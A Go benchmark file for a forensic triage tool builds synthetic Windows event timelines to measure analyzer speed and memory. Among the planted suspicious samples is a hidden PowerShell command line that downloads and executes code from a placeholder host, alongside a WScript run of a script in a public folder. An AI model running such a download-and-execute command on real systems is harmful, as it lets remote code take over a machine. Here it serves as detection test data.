package analyzers

import (
	"context"
	"database/sql"
	"fmt"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"triage/timeline"
)

// BenchmarkMillionEvents runs every analyzer over a synthetic timeline of
// 1,000,000 events: process starts (a tenth of them interpreters, some
// suspicious), PowerShell logs, prefetch runs and image loads.
func BenchmarkMillionEvents(b *testing.B) {
	path := filepath.Join(b.TempDir(), "timeline.db")
	db := syntheticTimelineAt(b, path, 1_000_000, mixedEvent)
	defer db.Close()
	// As a run gives them: the timeline in WAL mode, and its path, so
	// that analyzers can read it beside one another.
	if err := timeline.Share(db); err != nil {
		b.Fatal(err)
	}
	opts := Options{TimelinePath: path}
	b.ResetTimer()
	// The machine is shared, so wall time alone says little: CPU seconds per
	// run are reported too, as the figure that does not depend on the load.
	cpuBefore := cpuSeconds()
	for i := 0; i < b.N; i++ {
		sum, err := Run(context.Background(), db, opts)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(sum.Findings), "findings")
	}
	b.ReportMetric((cpuSeconds()-cpuBefore)/float64(b.N), "cpu-s/op")
}

// BenchmarkShellExits runs every analyzer over 200,000 cmd.exe starts
// (Security 4688), each followed by its exit (4689), the process ids
// reused every 5,000 starts: cmd.exe's analyzer pairs each start with its
// exit. peak-heap-MiB is the most heap in use during a run.
func BenchmarkShellExits(b *testing.B) {
	db := syntheticTimeline(b, 400_000, func(i int, e *timeline.Event) {
		pid := fmt.Sprintf("0x%x", 4*(1+(i/2)%5000))
		e.Provider, e.Channel, e.Process = timeline.ProviderSecurity, "Security", `C:\Windows\System32\cmd.exe`
		if i%2 == 0 {
			e.EventID, e.ParentProcess = 4688, `C:\Windows\System32\services.exe`
			e.CommandLine = fmt.Sprintf(`cmd.exe /c echo %d %s`, i, strings.Repeat("y", 100))
			e.Data = map[string]any{"NewProcessId": pid, "NewProcessName": e.Process, "ParentProcessName": e.ParentProcess,
				"CommandLine": e.CommandLine, "SubjectUserName": "svc"}
		} else {
			e.EventID = 4689
			e.Data = map[string]any{"ProcessId": pid, "ProcessName": e.Process, "Status": "0x0", "SubjectUserName": "svc",
				"SubjectDomainName": strings.Repeat("z", 300)}
		}
	})
	defer db.Close()
	b.ResetTimer()
	var peak uint64
	for b.Loop() {
		var err error
		peak = max(peak, peakHeap(func() { _, err = Run(context.Background(), db, Options{}) }))
		if err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(peak>>20), "peak-heap-MiB")
}

// cpuSeconds is the user plus system CPU time this process has used.
func cpuSeconds() float64 {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano()).Seconds()
}

// syntheticTimeline writes a timeline of n events, one a second from
// 2024-01-01 on host h, each set by fill, and returns it opened.
func syntheticTimeline(b testing.TB, n int, fill func(i int, e *timeline.Event)) *sql.DB {
	b.Helper()
	return syntheticTimelineAt(b, filepath.Join(b.TempDir(), "timeline.db"), n, fill)
}

// syntheticTimelineAt is syntheticTimeline's timeline, written at path.
func syntheticTimelineAt(b testing.TB, path string, n int, fill func(i int, e *timeline.Event)) *sql.DB {
	b.Helper()
	db, err := timeline.Create(path)
	if err != nil {
		b.Fatal(err)
	}
	w, err := timeline.NewWriter(db)
	if err != nil {
		b.Fatal(err)
	}
	a := &timeline.Artifact{Host: "h", EvidenceRoot: "r", Path: "p", Kind: "evtx", SHA256: "ab", MD5: "cd", Status: "ok"}
	if _, err := w.AddArtifact(a); err != nil {
		b.Fatal(err)
	}
	start := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	for i := 0; i < n; i++ {
		e := timeline.Event{TS: start.Add(time.Duration(i) * time.Second), Host: "h", ArtifactID: a.ID, RecordID: int64(i), Source: "evtx", Summary: "s"}
		fill(i, &e)
		if err := w.AddEvent(&e); err != nil {
			b.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		b.Fatal(err)
	}
	return db
}

var mixedImages = []string{`C:\Windows\System32\svchost.exe`, `C:\Windows\System32\conhost.exe`, `C:\Program Files\App\app.exe`,
	`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`}

// mixedEvent fills the i-th event of the synthetic timelines: process
// starts (a tenth of them interpreters, some suspicious), PowerShell logs,
// prefetch runs, image loads and logons.
func mixedEvent(i int, e *timeline.Event) {
	images := mixedImages
	switch i % 10 {
	case 0, 1, 2, 3, 4, 5:
		e.EventID, e.Provider = 4688, "Microsoft-Windows-Security-Auditing"
		e.Process, e.ParentProcess = images[i%len(images)], `C:\Windows\explorer.exe`
		e.CommandLine = fmt.Sprintf("%s /c echo %d", e.Process, i)
		if i%1000 == 0 {
			e.Process = images[4]
			e.CommandLine = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x')"
		}
	case 6:
		e.EventID, e.Provider, e.Process = 7, "Microsoft-Windows-Sysmon", images[i%len(images)]
		e.Data = map[string]any{"ImageLoaded": `C:\Windows\System32\kernel32.dll`, "Signed": "true"}
	case 7:
		e.EventID, e.Provider = 4104, "Microsoft-Windows-PowerShell"
		e.ScriptBlockID = fmt.Sprintf("sb-%d", i/7000)
		e.Data = map[string]any{"ScriptBlockText": "Get-ChildItem | Sort-Object Length", "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockId": e.ScriptBlockID}
	case 8:
		e.Source, e.Process = "prefetch", images[i%len(images)]
		e.Data = map[string]any{"executable": "APP.EXE", "files": []string{`\VOLUME{1}\WINDOWS\SYSTEM32\NTDLL.DLL`}}
		if i%1000 == 8 {
			e.Process = `\VOLUME{1}\WINDOWS\SYSTEM32\WSCRIPT.EXE`
			e.Data = map[string]any{"executable": "WSCRIPT.EXE", "files": []string{`\VOLUME{1}\WINDOWS\SYSTEM32\JSCRIPT.DLL`,
				`\VOLUME{1}\USERS\PUBLIC\A.JS`}}
		}
	default:
		e.EventID, e.Provider = 4624, "Microsoft-Windows-Security-Auditing"
	}
}
